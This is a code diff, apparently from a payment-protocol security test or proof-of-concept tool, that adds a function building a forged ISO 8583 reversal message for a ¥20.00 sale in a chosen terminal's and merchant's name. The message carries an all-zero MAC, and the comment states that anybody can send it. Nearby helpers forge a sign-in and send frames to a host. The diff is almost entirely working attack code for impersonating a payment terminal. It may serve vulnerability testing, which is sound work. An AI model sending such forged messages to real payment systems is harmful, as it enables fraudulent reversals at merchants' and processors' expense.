@@ -51,6 +51,25 @@ export function forgedSignIn({ terminal_id, merchant_id }, trace) {
   )
 }
 
+/** A reversal of a sale of ¥20.00 that anybody can send in a terminal's name: its MAC is none. */
+export function forgedReversal({ terminal_id, merchant_id }, trace) {
+  const bcd = (digits) => Buffer.from(digits, 'hex')
+  return framed(
+    Buffer.concat([
+      bcd('0400'),
+      bitmap([3, 4, 11, 25, 39, 41, 42, 49, 60, 64]),
+      bcd('000000'),
+      bcd('000000002000'),
+      bcd(String(trace).padStart(6, '0')),
+      bcd('00'),
+      Buffer.from('98' + terminal_id + merchant_id + '156'),
+      bcd('0008'),
+      bcd('22000001'),
+      Buffer.alloc(8),
+    ]),
+  )
+}
+
 /** Sends these frames and waits until each has its answer. */
 export function ask(address, frames) {
   const [host, port] = address.split(':')
